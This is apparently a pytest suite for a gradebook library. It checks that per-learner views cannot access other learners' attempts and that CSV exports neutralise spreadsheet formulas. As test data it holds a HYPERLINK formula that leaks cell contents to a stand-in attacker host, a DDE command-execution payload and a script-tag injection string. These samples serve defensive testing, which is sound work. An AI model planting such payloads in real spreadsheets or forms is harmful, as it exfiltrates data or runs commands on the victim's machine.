"""A view bound to learner A cannot read or write learner B; names cannot attack a spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest

from gradebook import AccessDenied, Gradebook, LearnerView
from gradebook.export import attempts_csv, gradebook_csv

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
SCRIPT = "<script>alert('x')</script> Sam"


@pytest.fixture
def two_learners(gb: Gradebook) -> tuple[LearnerView, LearnerView]:
    gb.register_learner("aaaa1111", "Anna")
    gb.register_learner("bbbb2222", "Bram")
    gb.record_attempt("bbbb2222", "ex", 1, {"secret": "B's answer"}, {"q": 1}, 1)
    return gb.for_learner("aaaa1111"), gb.for_learner("bbbb2222")


def test_a_view_reads_only_its_own_attempts(two_learners: tuple[LearnerView, LearnerView]) -> None:
    """Does A's view show none of B's attempts, whatever it asks for?"""
    view_a, view_b = two_learners
    view_a.record_attempt("ex", 1, {"mine": True}, {"q": 0}, 1)
    assert [a.learner.learner_number for a in view_a.attempts()] == ["AAAA1111"]
    assert all(a.learner.learner_number == "AAAA1111" for a in view_a.attempts("ex"))
    assert list(view_a.best_or_last("best")) == ["ex"]
    assert view_a.best_or_last("best")["ex"].answers == {"mine": True}
    assert len(view_b.attempts()) == 1


def test_a_view_refuses_to_read_or_record_as_someone_else(
    two_learners: tuple[LearnerView, LearnerView], gb: Gradebook
) -> None:
    """Is naming learner B through A's view an AccessDenied, with nothing stored?"""
    view_a, _ = two_learners
    with pytest.raises(AccessDenied):
        view_a.attempts(learner_number="bbbb2222")
    with pytest.raises(AccessDenied):
        view_a.record_attempt("ex", 1, {}, {"q": 1}, 1, learner_number="bbbb2222")
    with pytest.raises(TypeError):
        view_a.record_attempt("bbbb2222", "ex", 1, {}, {"q": 1}, 1)  # type: ignore[call-arg]
    assert [a.learner.learner_number for a in gb.attempts()] == ["BBBB2222"]
    # Naming oneself is fine, in any case.
    assert view_a.attempts(learner_number="AAAA1111") == []


def test_a_view_has_no_way_to_register_or_list_learners(
    two_learners: tuple[LearnerView, LearnerView],
) -> None:
    """Does the learner's view lack the teacher's methods?"""
    view_a, _ = two_learners
    for name in ("register_learner", "learners", "for_learner", "exercise_ids"):
        assert not hasattr(view_a, name)


def test_markup_in_names_is_stored_as_given(gb: Gradebook) -> None:
    """Is a name with HTML stored unchanged (escaping is the job of whoever renders it)?"""
    assert gb.register_learner("s0000001", SCRIPT).display_name == SCRIPT
    assert gb.learner("s0000001").display_name == SCRIPT


@pytest.mark.parametrize("lms", ["generic", "canvas", "moodle"])
def test_exports_neutralise_formulas_in_names(gb: Gradebook, lms: str) -> None:
    """Does a name that is a formula reach the CSV as text (a leading quote)?"""
    gb.register_learner("s0000001", HOSTILE)
    gb.register_learner("s0000002", SCRIPT)
    gb.record_attempt("s0000001", "ex", 1, {"a": "=1+1"}, {"q": 1}, 1)
    rows = list(csv.reader(io.StringIO(gradebook_csv(gb, "best", lms=lms))))
    cells = [cell for row in rows for cell in row]
    assert "'" + HOSTILE in cells
    assert SCRIPT in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


@pytest.mark.parametrize("delimiter", [";", ",", "\t"])
def test_no_part_of_a_cell_starts_a_formula_whatever_the_spreadsheet_splits_on(
    gb: Gradebook, delimiter: str
) -> None:
    """Read the export as Dutch-locale Excel does (split on semicolons), or on commas or tabs:
    does any resulting cell start a formula?"""
    gb.register_learner("s0000001", "Jan;=1+1;=cmd|' /C calc'!A0;")
    gb.register_learner("s0000002", "Piet, @SUM(A1:A9) |+1")
    gb.record_attempt("s0000001", "ex", 1, {"a": "x;=1+1", "b": [-2, 3]}, {"q": 1}, 1)
    for text in (gradebook_csv(gb, "best"), attempts_csv(gb)):
        parts = [part.lstrip(' "') for line in text.splitlines() for part in line.split(delimiter)]
        assert not any(part.startswith(("=", "+", "@")) for part in parts), parts
        assert not any(part.startswith("-") and not part[1:2].isdigit() for part in parts)


def test_the_attempts_export_neutralises_names_and_answers(gb: Gradebook) -> None:
    """Are formulas in names and in answers neutralised in the attempts CSV too?"""
    gb.register_learner("s0000001", "@SUM(A1:A9)")
    gb.record_attempt("s0000001", "ex", 1, "=cmd|' /C calc'!A0", {"q": 1}, 1)
    gb.record_attempt("s0000001", "ex", 1, -3, {"q": 1}, 1)
    rows = list(csv.reader(io.StringIO(attempts_csv(gb))))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'@SUM(A1:A9)" in cells
    assert "'-3" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
